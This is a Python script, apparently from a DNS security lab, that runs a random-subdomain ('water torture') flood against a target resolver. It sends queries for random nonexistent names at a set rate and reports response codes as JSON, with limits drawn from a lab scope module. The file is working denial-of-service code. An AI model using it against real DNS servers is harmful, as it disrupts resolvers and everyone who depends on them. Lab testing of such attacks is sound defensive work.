"""Random-subdomain flood ("water torture"): queries for names that do not exist under a zone,
sent to a resolver (or a server) of this lab as fast as asked, for a bounded time and count.
``python3 attacks/flood.py TARGET ZONE [--rate N] [--seconds S] [--packets P]`` prints JSON:
``{"target", "sent", "answered", "rcodes", "seconds"}``. Limits: scope.LIMITS."""
from __future__ import annotations

import argparse
import json
import os
import random
import select
import socket
import string
import sys
import time

import dns.message
import dns.rcode

import scope


def main(argv: list[str]) -> int:
    ap = argparse.ArgumentParser(prog="flood.py", description=__doc__.split("\n\n")[0])
    ap.add_argument("target", help="a node of this lab (a resolver, or a server) or its address")
    ap.add_argument("zone", help="the zone whose random subdomains are asked")
    ap.add_argument("--rate", type=float, default=500, help="queries per second (default 500)")
    ap.add_argument("--seconds", type=float, default=5, help="how long (default 5)")
    ap.add_argument("--packets", type=int, default=10_000, help="at most this many queries (default 10000)")
    args = ap.parse_args(argv[1:])
    try:
        rate, seconds = scope.bounded("rate", args.rate), scope.bounded("seconds", args.seconds)
        packets = int(scope.bounded("packets", args.packets))
    except ValueError as exc:
        sys.exit(f"refused: {exc}")
    address = scope.target(args.target)
    sock = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    rng = random.Random(os.urandom(8))
    sent = answered = 0
    rcodes: dict[str, int] = {}
    t0 = time.monotonic()
    deadline = t0 + seconds
    while time.monotonic() < deadline and sent < packets:
        due = t0 + sent / rate
        while sent < packets and time.monotonic() >= due:  # catch up in bursts, never above the rate
            label = "".join(rng.choice(string.ascii_lowercase + string.digits) for _ in range(12))
            q = dns.message.make_query(f"{label}.{args.zone}", "A")
            try:
                sock.sendto(q.to_wire(), (address, 53))
                sent += 1
            except BlockingIOError:
                break
            due = t0 + sent / rate
        ready, _, _ = select.select([sock], [], [], max(0.0, min(due - time.monotonic(), deadline - time.monotonic())))
        while ready:
            try:
                wire = sock.recv(4096)
            except BlockingIOError:
                break
            answered += 1
            try:
                rc = dns.rcode.to_text(dns.message.from_wire(wire).rcode())
            except Exception:
                rc = "unparsable"
            rcodes[rc] = rcodes.get(rc, 0) + 1
    print(json.dumps({"target": args.target, "address": address, "zone": args.zone, "sent": sent,
                      "answered": answered, "rcodes": rcodes, "seconds": round(time.monotonic() - t0, 2)}))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
